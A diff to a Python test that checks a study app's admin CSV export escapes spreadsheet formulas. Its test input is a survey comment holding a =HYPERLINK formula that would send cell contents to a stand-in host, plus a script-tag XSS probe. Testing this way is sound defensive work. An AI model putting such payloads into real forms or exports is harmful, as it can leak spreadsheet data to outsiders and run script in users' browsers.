@@ -143,11 +143,12 @@ def test_exports_escape_formulas_and_keep_html_as_written(db: Path) -> None:
         p.until("game")
         play_out(p.play())
         p.until("survey")
-        p.survey(comments='<script>alert("x")</script> =SUM(A1:A9) @me -1')
+        p.survey(comments='=HYPERLINK("http://x.example/?"&A1,"open") <script>alert("x")</script>')
         text = client.get("/api/studies/pilot/admin/participants.csv", headers={"X-Admin-Key": KEY}).text
         state = client.get(STATE, headers={"X-Admin-Key": KEY}).json()
     [row] = list(csv.DictReader(io.StringIO(text)))
-    assert row["survey_comments"] == '<script>alert("x")</script> =SUM(A1:A9) @me -1'  # text as written, not a formula
+    # A spreadsheet would run a cell starting with "=": it is written with an apostrophe first, the rest as written.
+    assert row["survey_comments"] == ''''=HYPERLINK("http://x.example/?"&A1,"open") <script>alert("x")</script>'''
     hostile = list(csv.reader(io.StringIO(text)))
-    assert all(not str(cell).startswith(("=", "+", "@")) for r in hostile for cell in r if cell != "-1")
-    assert state["recent"][0]["survey"]["comments"].startswith("<script>")  # JSON; the page shows it as text
+    assert all(not str(cell).startswith(("=", "+", "@")) for r in hostile for cell in r)
+    assert state["recent"][0]["survey"]["comments"].startswith("=HYPERLINK")  # JSON as written; the page shows text
